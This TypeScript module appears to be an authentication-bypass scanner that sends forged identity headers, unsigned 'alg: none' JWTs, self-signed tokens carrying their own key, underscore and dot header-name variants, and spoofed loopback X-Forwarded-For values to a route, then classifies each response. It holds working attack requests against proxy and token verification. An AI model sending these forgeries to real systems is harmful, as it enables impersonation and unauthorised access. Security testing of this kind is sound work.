import { base64url, utf8 } from '../core/bytes.ts'
import { DIALECTS, type Field, isAttribute } from '../identity/dialects.ts'

/** What one forged request met: `let in` past a refusal, `believed` by name, `echoed` like any header, or `ignored`. */
export interface Finding {
  readonly attempt: string
  readonly headers: readonly string[]
  readonly status: number
  readonly verdict: 'let in' | 'believed' | 'echoed' | 'ignored'
}

type Forged = readonly (readonly [string, string])[]

/** What an attack came to. */
export interface Attacked {
  /** How the route answers who sends nothing forged. */
  readonly status: number
  /** Why findings of nothing prove nothing; null when they do. */
  readonly inconclusive: 'echoes' | 'no-such-route' | 'moved' | 'broken' | null
  readonly findings: readonly Finding[]
}

interface Heard {
  readonly status: number
  readonly body: string
}

const TIMEOUT_MS = 10_000
const MOST_BODY = 65_536

function forgedValue(field: Field, user: string, role: string): string {
  if (isAttribute(field)) return user
  switch (field) {
    case 'roles':
    case 'primary-role':
      return role
    case 'permissions':
      return '*'
    case 'email':
      return `${user}@example.com`
    case 'google-email':
      return `accounts.google.com:${user}@example.com`
    case 'google-user':
      return `accounts.google.com:${user}`
    case 'guest':
      return 'false'
    case 'assertion':
    case 'bearer':
    case 'user':
    case 'session':
    case 'name':
    case 'permissions-url':
    case 'character-id':
    case 'character-name':
    case 'world':
    case 'idp':
    case 'picture':
      return user
  }
}

function segment(value: unknown): string {
  return base64url(utf8(JSON.stringify(value)))
}

function claims(user: string, role: string, now: number) {
  return {
    iss: 'https://evil.example',
    aud: '*',
    sub: user,
    email: `${user}@example.com`,
    roles: [role],
    permissions: ['*'],
    iat: now,
    exp: now + 60,
  }
}

function unsigned(user: string, role: string, now: number): string {
  return `${segment({ alg: 'none', typ: 'JWT' })}.${segment(claims(user, role, now))}.`
}

async function selfSigned(user: string, role: string, now: number): Promise<string> {
  const pair = await crypto.subtle.generateKey({ name: 'ECDSA', namedCurve: 'P-256' }, true, ['sign', 'verify'])
  const jwk = await crypto.subtle.exportKey('jwk', pair.publicKey)
  // ATTACK: a verifier that takes the key from the token itself believes anybody (RFC 8725 section 3.5).
  const head = { alg: 'ES256', typ: 'JWT', kid: 'evil', jwk: { kty: jwk.kty, crv: jwk.crv, x: jwk.x, y: jwk.y } }
  const input = `${segment(head)}.${segment(claims(user, role, now))}`
  const signature = await crypto.subtle.sign({ name: 'ECDSA', hash: 'SHA-256' }, pair.privateKey, utf8(input))
  return `${input}.${base64url(new Uint8Array(signature))}`
}

/** Dialects that carry a token in a header of their own, and that header. */
const CARRIERS = Object.entries(DIALECTS).flatMap(([dialect, fields]) =>
  fields.filter(([, field]) => field === 'assertion').map(([name]) => [dialect, name] as const),
)

/** Every forged request, by name. */
export async function forgeries(user: string, role: string, now: number): Promise<ReadonlyMap<string, Forged>> {
  const plain = Object.entries(DIALECTS).filter(([dialect]) => dialect !== 'bearer')
  const made = new Map<string, Forged>()
  for (const [dialect, fields] of plain) {
    const headers = fields.map(([name, field]) => [name, forgedValue(field, user, role)] as const)
    made.set(`headers of ${dialect}`, headers)
    // ATTACK: servers that fold names meet the trusted one under these spellings (CVE-2025-64484, CVE-2026-33433).
    made.set(
      `headers of ${dialect}, with _`,
      headers.map(([name, value]) => [name.replaceAll('-', '_'), value] as const),
    )
    made.set(
      `headers of ${dialect}, with .`,
      headers.map(([name, value]) => [name.replaceAll('-', '.'), value] as const),
    )
  }
  const tokens = { 'no signature': unsigned(user, role, now), 'a key of its own': await selfSigned(user, role, now) }
  for (const [how, token] of Object.entries(tokens)) {
    made.set(`assertion with ${how}`, [['Postern-Assertion', token]])
    made.set(`bearer token with ${how}`, [['Authorization', `Bearer ${token}`]])
    for (const [dialect, name] of CARRIERS) made.set(`assertion of ${dialect} with ${how}`, [[name, token]])
  }
  made.set('loopback as client address', [
    ['X-Forwarded-For', '127.0.0.1'],
    ['X-Real-IP', '127.0.0.1'],
    ['Forwarded', 'for=127.0.0.1'],
  ])
  return made
}

async function hear(url: URL, method: string, headers: Forged): Promise<Heard> {
  const response = await fetch(url, {
    method,
    headers: headers.map(([name, value]): [string, string] => [name, value]),
    redirect: 'manual',
    signal: AbortSignal.timeout(TIMEOUT_MS),
  })
  return { status: response.status, body: await beginning(response) }
}

async function beginning(response: Response): Promise<string> {
  if (response.body === null) return ''
  const decoder = new TextDecoder()
  let text = ''
  for await (const part of response.body) {
    text += decoder.decode(part, { stream: true })
    if (text.length >= MOST_BODY) break
  }
  return text
}

/**
 * Sends every forgery to one route of an upstream. What a route repeats of any header proves nothing, so a header that
 * means nothing is sent first; and a route that is not there believes nobody.
 */
export async function attack(url: URL, options: { readonly role: string; readonly method: string }): Promise<Attacked> {
  const user = `forged-${base64url(crypto.getRandomValues(new Uint8Array(6))).replaceAll(/[-_]/g, 'x')}`
  const control = `control-${user.slice(7)}`
  const before = await hear(url, options.method, [['X-Meaningless', control]])
  const scene: Scene = { before, user, role: options.role, echoes: before.body.includes(control) }
  const findings: Finding[] = []
  for (const [attempt, headers] of await forgeries(user, options.role, Math.floor(Date.now() / 1000))) {
    const heard = await hear(url, options.method, headers)
    findings.push({
      attempt,
      headers: headers.map(([name]) => name),
      status: heard.status,
      verdict: judge(scene, heard),
    })
  }
  return { status: before.status, inconclusive: doubtOf(scene), findings }
}

interface Scene {
  readonly before: Heard
  readonly user: string
  readonly role: string
  readonly echoes: boolean
}

function judge({ before, user, role, echoes }: Scene, heard: Heard): Finding['verdict'] {
  const isOpen = heard.status < (before.status < 400 ? 300 : 400)
  if (before.status >= 300 && before.status < 500 && isOpen) return 'let in'
  const names = heard.body.includes(user) || (heard.body.includes(role) && !before.body.includes(role))
  if (!names) return 'ignored'
  return echoes ? 'echoed' : 'believed'
}

function doubtOf({ before, echoes }: Scene): Attacked['inconclusive'] {
  if (before.status === 404 || before.status === 405 || before.status === 501) return 'no-such-route'
  if (before.status === 301 || before.status === 308) return 'moved'
  if (before.status >= 500) return 'broken'
  return echoes ? 'echoes' : null
}
